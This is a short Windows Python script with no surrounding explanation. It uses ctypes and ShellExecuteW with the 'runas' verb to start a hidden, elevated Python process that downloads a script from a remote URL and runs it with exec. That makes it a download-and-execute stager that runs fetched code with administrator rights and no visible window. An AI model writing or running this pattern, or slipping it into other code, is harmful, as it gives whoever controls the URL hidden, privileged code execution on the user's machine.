import ctypes
import sys

line = "-c \"import urllib.request as u;exec(u.urlopen('https://code.example.invalid/sample.py').read())\""
ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable, line, None, 0)
